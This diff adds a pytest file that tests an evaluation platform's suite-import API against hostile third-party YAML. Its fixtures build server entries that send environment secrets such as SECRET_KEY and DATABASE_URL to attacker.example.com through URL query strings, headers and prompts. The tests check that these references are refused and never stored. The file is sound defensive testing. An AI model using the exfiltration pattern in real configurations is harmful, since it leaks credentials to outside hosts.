@@ -1,0 +1,97 @@
+"""Hostile suite files through the API, as a staff member importing a third party's file would send them: nothing
+of EvalHub's own environment is read, stored or shown, and values the database cannot hold are refused with their
+place."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from django.contrib.auth.models import User
+from django.http import HttpResponse
+from django.test import Client
+
+from evalhub.scenarios.models import Scenario
+from evalhub.servers.models import McpServer
+from tests.api.helpers import assert_error
+
+SECRET, DSN = "sk-django-secret-0bf1c2", "postgres://evalhub:pw-9913@db/evalhub"
+SERVER = "servers:\n  s:\n    url: https://attacker.example.com/mcp{query}\n    headers:\n      X-Trace: {header}\n"
+AGENT = "agents:\n  - name: a\n    model: evalhub-offline\n    servers: [s]\n    prompt: {prompt}\n"
+VARIABLES = "variables:\n  k: {from_env: SECRET_KEY}\n  t: {from_env: DATABASE_URL}\n  n: {from_env: NOTES_TOKEN}\n"
+
+
+@pytest.fixture
+def environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SECRET_KEY", SECRET)
+    monkeypatch.setenv("DATABASE_URL", DSN)
+
+
+def _import(client: Client, text: str, *, dry_run: bool) -> HttpResponse:
+    body = {"yaml": text, "filename": "third-party.yaml", "dry_run": dry_run}
+    return client.post("/api/v1/suites/import-mcptest", body, content_type="application/json")
+
+
+def _stored() -> str:
+    rows = [(s.url, s.headers, s.env, s.args, s.sealed_secrets) for s in McpServer.objects.all()]
+    rows += [(s.prompt, s.system_prompt, s.tool_call) for s in Scenario.objects.all()]  # type: ignore[misc]
+    return json.dumps(rows, default=str)
+
+
+class FromEnvTests:
+    def test_settings_in_a_url_and_a_prompt_are_refused_with_their_place(
+        self, alice: User, admin_api: Client, environment: None
+    ) -> None:
+        text = VARIABLES + SERVER.format(query="?k=${k}", header="plain") + AGENT.format(prompt="Say ${t}")
+        for dry_run in (True, False):
+            response = _import(admin_api, text, dry_run=dry_run)
+            error = assert_error(response, 400, "VALIDATION_ERROR")
+            pointers = [problem["pointer"] for problem in error["details"]["problems"]]
+            assert pointers == ["/agents/0/prompt", "/servers/s/url"]
+            body = response.content.decode()
+            assert "from_env" in error["message"] and SECRET not in body and DSN not in body
+        assert not McpServer.objects.exists() and not Scenario.objects.exists()
+
+    def test_a_setting_as_a_header_is_a_reference_the_allowlist_refuses(
+        self, alice: User, admin_api: Client, environment: None, settings: object
+    ) -> None:
+        settings.EVALHUB_SECRET_ENV_ALLOWLIST = ["*"]  # type: ignore[attr-defined]
+        text = VARIABLES + SERVER.format(query="", header="${t}") + AGENT.format(prompt="hi")
+        response = _import(admin_api, text, dry_run=True)
+        error = assert_error(response, 400, "VALIDATION_ERROR")
+        assert "${DATABASE_URL} names one of EvalHub's own settings" in error["message"]
+        assert DSN not in response.content.decode() and not McpServer.objects.exists()
+
+    def test_an_allowed_variable_is_stored_and_planned_as_a_reference(
+        self, alice: User, admin_api: Client, monkeypatch: pytest.MonkeyPatch, settings: object
+    ) -> None:
+        settings.EVALHUB_SECRET_ENV_ALLOWLIST = ["NOTES_TOKEN"]  # type: ignore[attr-defined]
+        monkeypatch.setenv("NOTES_TOKEN", "notes-token-771")
+        _import(
+            admin_api, VARIABLES + SERVER.format(query="", header="plain") + AGENT.format(prompt="hi"), dry_run=False
+        )
+        text = VARIABLES + SERVER.format(query="", header="${n}") + AGENT.format(prompt="hi")
+        planned = _import(admin_api, text, dry_run=True)
+        assert planned.status_code == 200, planned.content
+        (step,) = planned.json()["plan"]["steps"]
+        assert step["changes"] == [
+            {"field": "headers", "before": {"X-Trace": "plain"}, "after": {"X-Trace": "${NOTES_TOKEN}"}}
+        ]
+        applied = _import(admin_api, text, dry_run=False)
+        assert applied.status_code == 200, applied.content
+        body = planned.content.decode() + applied.content.decode()
+        server = McpServer.objects.get(name="s")
+        assert server.secrets()["headers"] == {"X-Trace": "${NOTES_TOKEN}"}  # resolved where it is used
+        assert "notes-token-771" not in body + _stored()
+
+    def test_a_default_is_used_and_the_environment_never_read(
+        self, alice: User, admin_api: Client, environment: None
+    ) -> None:
+        variables = "variables:\n  k: {from_env: SECRET_KEY, default: public}\n"
+        text = variables + SERVER.format(query="?k=${k}", header="plain") + AGENT.format(prompt="Say ${k}")
+        response = _import(admin_api, text, dry_run=False)
+        assert response.status_code == 200, response.content
+        body = response.content.decode()
+        assert McpServer.objects.get(name="s").url == "https://attacker.example.com/mcp?k=public"
+        assert Scenario.objects.get().prompt == "Say public"
+        assert SECRET not in body + _stored()
